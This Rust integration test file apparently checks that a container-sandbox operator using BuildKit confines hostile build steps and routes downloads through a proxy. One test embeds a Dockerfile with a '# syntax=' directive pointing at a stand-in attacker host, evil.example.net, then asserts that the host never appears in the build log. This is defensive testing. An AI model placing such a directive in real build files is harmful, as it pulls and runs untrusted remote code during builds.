//! The same by BuildKit, held by the same wall.

use super::hostile::{could_only_fail, gets_nowhere, takes_too_much};
use super::place::{
    BUILT, agent_runs, approved, at, becomes, bottle, bottle_of, installed_builds, log, message,
    with,
};
use super::road::a_tool_is_built_in;
use crate::kill::{Operator, Stopped, operators_kubeconfig};
use crate::support::{Namespace, eventually, repository, run, state};
use std::path::PathBuf;
use std::sync::Once;
use tempfile::NamedTempFile;

/// The builder's image, loaded once.
pub fn image() -> &'static str {
    static LOADED: Once = Once::new();
    LOADED.call_once(|| {
        let state = state();
        let cluster = state.file_name().unwrap().to_str().unwrap();
        let cluster = cluster.trim_start_matches("cluster-");
        let program = repository().join("tests/images/load");
        let words = ["--name", cluster, "builder-kit"];
        run(program.to_str().unwrap(), words, "").good();
    });
    "bot-bottle/builder-kit:dev"
}

/// The operator as it is installed, but for the builder; the installed one is back at its end.
struct Kit {
    kubeconfig: PathBuf,
    _operator: Operator,
    _builds: NamedTempFile,
    _stopped: Stopped,
}

impl Kit {
    fn new() -> Self {
        let mut builds: serde_json::Value =
            bot_bottle::yaml::from_str(&installed_builds()).unwrap();
        builds["builder"] = "BuildKit".into();
        builds["image"] = image().into();
        let file = NamedTempFile::new().unwrap();
        std::fs::write(file.path(), builds.to_string()).unwrap();
        let stopped = Stopped::new();
        let kubeconfig = operators_kubeconfig();
        let flag = format!("--builds={}", file.path().display());
        Self {
            _operator: Operator::start_with(&kubeconfig, "", &[&flag]),
            kubeconfig,
            _builds: file,
            _stopped: stopped,
        }
    }
}

impl Drop for Kit {
    fn drop(&mut self) {
        let _ = std::fs::remove_file(&self.kubeconfig);
    }
}

#[test]
fn buildkit_builds_a_tool_in_and_a_hostile_step_gets_nowhere() {
    let _kit = Kit::new();
    let namespace = Namespace::new();
    let bottle = bottle(&namespace);
    gets_nowhere(&bottle);
    a_tool_is_built_in(&bottle);
}

#[test]
#[ignore = "takes minutes"]
fn buildkit_refuses_and_is_ended_as_the_other_builder_is() {
    let _kit = Kit::new();
    let namespace = Namespace::new();
    let bottle = bottle(&namespace);
    could_only_fail(&bottle);
    takes_too_much(&bottle);
}

#[test]
#[ignore = "takes half a minute"]
fn buildkit_reads_the_file_itself_and_takes_what_it_adds_through_the_proxy() {
    let _kit = Kit::new();
    let namespace = Namespace::new();
    let bottle = bottle(&namespace);
    // A frontend's image would read the file in its place; ADD of a listed host passes by the proxy.
    let file = format!(
        "# syntax=evil.example.net/frontend:1\n{}",
        with("ADD http://files.example.com/ /greeting\nRUN busybox chmod 644 /greeting")
    );
    let proposal = approved(&bottle, &file);
    becomes(&bottle, &proposal, "Enforced");
    agent_runs(&bottle);
    let said = bottle.shell("busybox cat /greeting").good();
    assert!(said.contains("hello from files.example.com"), "{said}");
    let printed = log(&bottle, &proposal);
    assert!(!printed.contains("evil.example.net"), "{printed}");
    drop(bottle);

    // Of two bases, and of one stage in another.
    let namespace = Namespace::new();
    let base = super::place::base();
    let bottle = bottle_of(&namespace, &base);
    let tiny = format!("{}/base/hostile", at("registry"));
    let file = format!(
        "FROM {base} AS first\nUSER 0\nRUN busybox touch /of-first\nFROM {tiny}:1\nCOPY --from=first /of-first /copied\nUSER 1000:1000\n"
    );
    let proposal = approved(&bottle, &file);
    becomes(&bottle, &proposal, "Enforced");
    agent_runs(&bottle);
    bottle.shell("busybox ls /copied").good();
    // A base that is not there is told by its name; it is asked for again, as a registry may be away.
    let file = format!("FROM {tiny}:nowhere\n");
    let proposal = approved(&bottle, &file);
    eventually("the base is named", BUILT, || {
        let said = namespace.field(&proposal, ".status.build.log");
        if said.contains("nowhere") && said.contains("404") {
            Ok(())
        } else {
            Err(said + &message(&bottle, &proposal))
        }
    });
}
